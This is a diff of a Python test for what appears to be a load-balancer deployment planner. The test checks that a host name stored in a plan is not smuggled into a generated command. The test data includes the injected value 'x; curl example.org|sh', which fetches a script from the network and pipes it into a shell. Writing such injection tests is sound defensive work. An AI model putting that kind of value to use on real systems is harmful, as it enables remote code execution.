@@ -484,8 +484,8 @@ def test_plans_that_cannot_be_read() -> None:
 def test_no_stored_plan_puts_words_into_a_command() -> None:
     deployed = stored(plan(intent(lb_hosts=[*THREE, "cp4"]), {**hosts(), "cp4": host(14)}))
     for found in deployed.values():
-        for member, name in zip(found["endpoints"][0]["instances"][0]["members"][2:], ("x; curl example.org|sh", "cp9")):
-            member["host"] = name
+        members = found["endpoints"][0]["instances"][0]["members"]
+        members[2]["host"], members[3]["host"] = "x; curl example.org|sh", "cp9"
     deployed = {name: json.loads(json.dumps(deployed[name])) for name in ("cp1", "cp2")}
     [text] = [text for text in plan(deployed=deployed)["warnings"] if "[member_gone]" in text]
     assert "endpoint_hosts=cp9 then" in text and "endpoint_hosts=x" not in text
